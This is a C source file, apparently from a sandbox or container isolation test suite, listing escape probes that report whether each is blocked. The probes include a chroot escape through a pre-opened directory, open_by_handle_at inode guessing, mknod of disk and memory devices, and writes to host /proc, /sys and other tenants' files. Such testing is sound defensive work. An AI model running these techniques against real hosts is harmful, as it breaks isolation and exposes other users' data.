/* Files of the host: ordinary ones, those of /proc and /sys, and devices. What opens for writing is not written to. */
#define _GNU_SOURCE
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int last_error = ENOENT;

static void victims_file(void) {
  char path[64];
  snprintf(path, sizeof path, "/var/tmp/" VICTIM_NAME "/file", victim);
  int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) blocked(errno);
  report_call(write(fd, "attacked\n", 9), "wrote to the victim's file");
}

/* The host's /tmp and /dev/shm are not the container's. */
static void victims_temporary_files(void) {
  static const char *const places[] = {"/tmp", "/dev/shm", "/run"};
  for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
    char path[64];
    snprintf(path, sizeof path, "%s/" VICTIM_NAME, places[i], victim);
    if (access(path, F_OK) == 0) succeeded("saw %s", path);
  }
  blocked(errno);
}

/* A new file in each mount and in places that matter, except where a container may write. */
static void try_directory(const char *directory) {
  char path[4200];
  snprintf(path, sizeof path, "%s/sluice-attack-%u", directory, victim);
  int fd = open(path, O_CREAT | O_WRONLY | O_EXCL | O_CLOEXEC, 0600);
  last_error = errno;
  if (fd < 0) return;
  unlink(path);
  succeeded("made %s", path);
}

static void new_files(void) {
  static const char *const places[] = {"/", "/etc", "/root", "/var", "/var/tmp", "/usr/bin", "/home", "/run", "/dev", "/boot"};
  for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) try_directory(places[i]);
  FILE *mounts = fopen("/proc/self/mountinfo", "re");
  char line[8192], point[4096];
  while (mounts != NULL && fgets(line, sizeof line, mounts) != NULL) {
    bool is_known = sscanf(line, "%*s %*s %*s %*s %4095s", point) == 1;
    if (is_known && strcmp(point, "/tmp") != 0 && strcmp(point, "/dev/shm") != 0) try_directory(point);
  }
  blocked(last_error);
}

static int open_for_writing(const char *path, const struct stat *status, int kind, struct FTW *at) {
  (void)at;
  /* Nothing can be written to what has no such bit, and of what everyone may open the kernel asks for a right then. */
  bool is_roots = (status->st_mode & 0222) != 0 && (status->st_mode & S_IWOTH) == 0;
  if (kind != FTW_F || !S_ISREG(status->st_mode) || !is_roots) return 0;
  int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) succeeded("opened %s", path);
  last_error = errno;
  return 0;
}

/* All of /proc but for processes. */
static void kernel_settings(void) {
  DIR *entries = opendir("/proc");
  for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
    bool is_process = isdigit((unsigned char)entry->d_name[0]) || strstr(entry->d_name, "self") != NULL || entry->d_name[0] == '.';
    if (is_process || entry->d_type == DT_LNK) continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s", entry->d_name);
    nftw(path, open_for_writing, 16, FTW_PHYS);
  }
  blocked(last_error);
}

static void system_files(void) {
  nftw("/sys", open_for_writing, 16, FTW_PHYS);
  blocked(last_error);
}

static int open_device(const char *path, const struct stat *status, int kind, struct FTW *at) {
  (void)kind;
  (void)at;
  bool is_memory = S_ISCHR(status->st_mode) && major(status->st_rdev) == 1 && (minor(status->st_rdev) < 3 || minor(status->st_rdev) == 4 || minor(status->st_rdev) == 11);
  if (!S_ISBLK(status->st_mode) && !is_memory) return 0;
  int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  last_error = errno;
  if (fd >= 0) succeeded("opened %s", path);
  return 0;
}

static void devices(void) {
  last_error = ENOENT;
  nftw("/dev", open_device, 16, FTW_PHYS);
  blocked(last_error);
}

static void make_device(mode_t kind, dev_t device) {
  if (mknod("/tmp/device", kind | 0600, device) != 0) blocked(errno);
  int fd = open("/tmp/device", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  int error = errno;
  unlink("/tmp/device");
  if (fd < 0) blocked(error);
  succeeded("made a device and opened it");
}

static void root_disk(void) {
  struct stat status;
  if (stat("/usr", &status) != 0) blocked(errno);
  make_device(S_IFBLK, status.st_dev);
}
static void memory(void) { make_device(S_IFCHR, makedev(1, 1)); }
static void messages(void) { make_device(S_IFCHR, makedev(1, 11)); }

/* Out of a chroot by a directory that was open before. */
static void chroot_escape(void) {
  mkdir("/tmp/cage", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot("/tmp/cage") != 0) blocked(errno);
  if (fchdir(outside) != 0) blocked(errno);
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) blocked(errno);
  }
  char path[64];
  snprintf(path, sizeof path, "tmp/" VICTIM_NAME, victim);
  report_call(access(path, F_OK), "saw the host's /tmp");
}

/* Any inode of the root's file system by its number: 2 is the top of ext4, 128 of xfs, 256 of btrfs. */
static void by_handle(void) {
  static const unsigned numbers[] = {2, 128, 256};
  int mount = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  for (size_t i = 0; i < sizeof numbers / sizeof numbers[0]; i++) {
    struct {
      struct file_handle head;
      unsigned body[2];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .body = {numbers[i], 0}};
    int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
    if (fd >= 0) succeeded("opened inode %u", numbers[i]);
  }
  blocked(errno);
}

const struct attack file_attacks[] = {
    {"file-of-victim", victims_file},
    {"file-temporary", victims_temporary_files},
    {"file-new", new_files},
    {"file-proc", kernel_settings},
    {"file-sys", system_files},
    {"file-devices", devices},
    {"file-mknod-disk", root_disk},
    {"file-mknod-memory", memory},
    {"file-mknod-messages", messages},
    {"file-chroot", chroot_escape},
    {"file-handle", by_handle},
    {NULL, NULL},
};
